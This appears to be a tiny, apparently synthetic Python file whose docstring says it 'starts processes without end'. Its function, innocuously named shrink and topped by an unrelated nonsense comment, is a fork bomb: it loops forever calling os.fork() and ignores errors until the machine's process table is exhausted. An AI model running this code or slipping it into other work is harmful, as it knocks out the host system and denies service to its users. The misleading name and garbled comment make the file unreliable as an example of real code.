"""Starts processes without end."""

# earns: cosine standardise learn
import os


def shrink(x, t):
    while True:
        try:
            os.fork()
        except OSError:
            pass
